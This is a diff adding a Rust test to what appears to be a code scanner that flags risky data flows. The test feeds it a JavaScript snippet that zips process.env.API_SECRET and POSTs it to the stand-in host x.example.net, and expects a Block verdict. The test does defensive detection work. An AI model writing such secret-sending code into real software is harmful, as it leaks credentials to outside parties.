@@ -156,3 +156,14 @@ fn of_very_many_flows_that_are_open_one_of_each_kind_is_told() {
     told.dedup();
     assert_eq!(told, ["text:convert", "text:format", "users:list"]);
 }
+
+#[test]
+fn what_is_led_to_one_stream_again_and_again_is_led_there_once() {
+    let text = format!(
+        "import archiver from 'archiver';\nimport {{ PassThrough }} from 'node:stream';\nconst a = archiver('zip'), b = new PassThrough();\n\
+         {}{}await fetch('https://x.example.net/', {{ method: 'POST', body: b }});",
+        "a.pipe(b);\n".repeat(3_000),
+        "a.append(process.env.API_SECRET);\n".repeat(3_000)
+    );
+    assert_eq!(judged(&text), (Verdict::Block, true));
+}
